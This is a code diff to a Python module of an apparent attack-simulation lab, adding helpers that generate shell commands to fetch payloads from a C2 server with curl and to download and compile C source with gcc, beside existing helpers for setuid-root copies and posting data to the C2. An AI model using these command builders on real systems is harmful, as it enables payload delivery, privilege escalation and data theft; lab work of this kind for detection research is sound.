@@ -9,6 +9,8 @@ draws keep their order.
 
 from __future__ import annotations
 
+import posixpath
+
 from provarmor.lab import techniques as t
 from provarmor.lab.context import LabContext
 from provarmor.lab.scenario import Action, Channel, Payload, SetupFile, StepSpec
@@ -68,6 +70,24 @@ def sudo_rule(ctx: LabContext, *, files: tuple[str, ...], program: str) -> Setup
 def setuid_copy(program: str, path: str) -> tuple[tuple[str, ...], ...]:
     """Set-up commands that leave a setuid-root copy of ``program`` at ``path``."""
     return (("cp", program, path), ("chmod", "4755", path))
+
+
+def download(ctx: LabContext, payload: Payload, target: str) -> str:
+    """Shell that fetches ``payload`` from the C2 server to ``target``, creating its folder."""
+    url = ctx.payload_url(payload.path)
+    return f"mkdir -p {posixpath.dirname(target)} && curl -s -o {target} {url}"
+
+
+def compile_downloaded(
+    ctx: LabContext, source: Payload, output: str, *, flags: str, scratch: str
+) -> str:
+    """Shell that fetches the C ``source`` into a temporary folder (as ``scratch``), builds
+    ``output`` from it with gcc ``flags`` and removes the folder."""
+    url = ctx.payload_url(source.path)
+    return (
+        f"d=$(mktemp -d) && curl -s -o $d/{scratch} {url} && "
+        f"gcc {flags} -o {output} $d/{scratch} && rm -rf $d"
+    )
 
 
 def post_to_c2(ctx: LabContext, data: str) -> str:
